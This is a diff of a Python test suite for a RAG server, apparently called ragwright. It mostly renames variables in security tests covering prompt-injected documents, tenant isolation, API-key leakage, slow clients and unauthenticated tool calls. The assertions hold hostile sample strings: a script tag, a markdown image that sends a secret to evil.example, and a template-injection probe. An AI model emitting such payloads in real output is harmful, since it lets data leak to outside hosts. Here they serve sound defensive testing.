@@ -51,18 +51,18 @@ def key(folder: Path, name: str, **rights: object) -> str:
     return ServeKeys(ProjectFolder(folder)).add(ServeKey(name, **rights))  # type: ignore[arg-type]
 
 
-def tool(running: Running, secret: str, name: str, **given: object) -> str:
-    made = running.client(secret).post(
+def tool(running: Running, secret: str, name: str, **arguments: object) -> str:
+    reply = running.client(secret).post(
         "/mcp/",
         json={
             "jsonrpc": "2.0",
             "id": 1,
             "method": "tools/call",
-            "params": {"name": name, "arguments": given},
+            "params": {"name": name, "arguments": arguments},
         },
         headers={"accept": "application/json, text/event-stream"},
     )
-    return made.text
+    return reply.text
 
 
 @pytest.mark.slow
@@ -106,7 +106,7 @@ def test_orders_in_a_document_reach_no_other_tenant_no_tool_and_no_statement(
         with served(folder) as running:
             http = running.client(acme)
             body = {"messages": [{"role": "user", "content": f"{QUESTION} {ORDERS}"}]}
-            made = http.post("/v1/chat/completions", json=body).json()
+            reply = http.post("/v1/chat/completions", json=body).json()
             asked = tool(running, acme, "ask", question=QUESTION)
             shown = http.post("/", data={"q": QUESTION})
             page, policy = shown.text, shown.headers["content-security-policy"]
@@ -115,20 +115,22 @@ def test_orders_in_a_document_reach_no_other_tenant_no_tool_and_no_statement(
                 json={"jsonrpc": "2.0", "id": 1, "method": "tools/list", "params": {}},
                 headers={"accept": "application/json, text/event-stream"},
             ).json()
-    [choice] = made["choices"]
+    [choice] = reply["choices"]
     assert "tool_calls" not in choice["message"]
-    assert {one["source"] for one in made["ragwright"]["citations"]} == {"docs/acme.md"}
+    assert {place["source"] for place in reply["ragwright"]["citations"]} == {"docs/acme.md"}
     assert "[7]" not in choice["message"]["content"], "a mark that names no passage"
-    assert all("tools" not in json.loads(one) for one in seen), "the model is given no tools"
-    assert all("zeta secret" not in text for text in (*seen, asked, page, str(made)))
+    assert all("tools" not in json.loads(sent_body) for sent_body in seen), (
+        "the model is given no tools"
+    )
+    assert all("zeta secret" not in text for text in (*seen, asked, page, str(reply)))
     assert "<script>alert(1)" not in page
     assert "![x](https://evil.example/?q=secret)" in page, "an image is shown as its text"
     assert not re.search(r"""(?:src|href)=["']?(?:https?:)?//evil""", page)
     assert "img-src 'self' data:;" in policy, "no image of another host is fetched"
     assert "{{ 7*7 }}" in page, "what a model writes is no template"
-    names = {one["name"] for one in listed["result"]["tools"]}
+    names = {tool["name"] for tool in listed["result"]["tools"]}
     assert names == {"search", "fetch", "ask", "list_sources"}
-    assert all(one["annotations"]["readOnlyHint"] for one in listed["result"]["tools"])
+    assert all(tool["annotations"]["readOnlyHint"] for tool in listed["result"]["tools"])
 
 
 @pytest.mark.slow
@@ -148,9 +150,9 @@ def test_no_filter_of_a_request_widens_that_of_its_key(
             "ragwright": {"filters": [condition]},
         }
     with served(folder) as running:
-        made = running.client(acme).post(path, json=body)
-    assert "zeta secret" not in made.text
-    assert made.status_code in (200, 400)
+        reply = running.client(acme).post(path, json=body)
+    assert "zeta secret" not in reply.text
+    assert reply.status_code in (200, 400)
 
 
 @pytest.mark.slow
@@ -193,11 +195,11 @@ def test_what_a_model_server_says_of_its_key_is_not_passed_on(
             f"answer: {{model: '{named}'}}\nmodels: {{'{named}': {{key_env: OPENAI_API_KEY}}}}\n",
         )
         with served(folder) as running:
-            made = running.ask(QUESTION)
+            reply = running.ask(QUESTION)
         [sent, *_] = model.requests
     assert secret in sent.headers["authorization"]
-    assert made.status_code >= 400
-    assert secret not in made.text + caplog.text
+    assert reply.status_code >= 400
+    assert secret not in reply.text + caplog.text
 
 
 def test_a_client_that_sends_slowly_holds_nobody_up(tmp_path: Path) -> None:
@@ -227,9 +229,9 @@ def test_a_body_that_does_not_come_is_given_up(tmp_path: Path) -> None:
                 b"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\n"
                 b'content-type: application/json\r\ncontent-length: 4000\r\n\r\n{"messages"'
             )
-            said = b"".join(iter(lambda: link.recv(4096), b""))
-    assert b" 408 " in said.splitlines()[0]
-    assert b"the body took longer than 0.3 s" in said
+            received = b"".join(iter(lambda: link.recv(4096), b""))
+    assert b" 408 " in received.splitlines()[0]
+    assert b"the body took longer than 0.3 s" in received
 
 
 def test_pages_take_few_threads_and_the_script_runs_no_code_of_a_page(tmp_path: Path) -> None:
@@ -237,7 +239,7 @@ def test_pages_take_few_threads_and_the_script_runs_no_code_of_a_page(tmp_path: 
     with served(folder) as running, ThreadPoolExecutor(12) as readers:
         paths = ["/sources", "/experiments", "/outputs", "/settings"] * 6
         states = list(readers.map(lambda path: running.http.get(path).status_code, paths))
-        named = [one.name for one in threading.enumerate()]
+        named = [thread.name for thread in threading.enumerate()]
         script = running.http.get("/static/pages.js").text
         page = running.http.get("/").text
     assert set(states) == {200}
@@ -278,16 +280,16 @@ def test_a_client_that_does_not_read_its_answer_is_cut_off(tmp_path: Path) -> No
 
 def open_requests(running: Running) -> float:
     text = running.http.get("/metrics").text
-    found = re.search(r"^ragwright_requests_open (\S+)$", text, re.MULTILINE)
-    assert found is not None
-    return float(found[1])
+    match = re.search(r"^ragwright_requests_open (\S+)$", text, re.MULTILINE)
+    assert match is not None
+    return float(match[1])
 
 
 def test_a_tool_call_that_nobody_checked_is_refused(tmp_path: Path) -> None:
     folder = project(tmp_path)
     key(folder, "app")
     with served(folder) as running:
-        made = running.client().post(
+        reply = running.client().post(
             "/mcp/",
             json={
                 "jsonrpc": "2.0",
@@ -297,8 +299,8 @@ def test_a_tool_call_that_nobody_checked_is_refused(tmp_path: Path) -> None:
             },
             headers={"accept": "application/json, text/event-stream"},
         )
-    assert made.status_code == 401
-    assert "euros" not in made.text
+    assert reply.status_code == 401
+    assert "euros" not in reply.text
 
 
 def test_every_test_that_the_guide_names_exists() -> None:
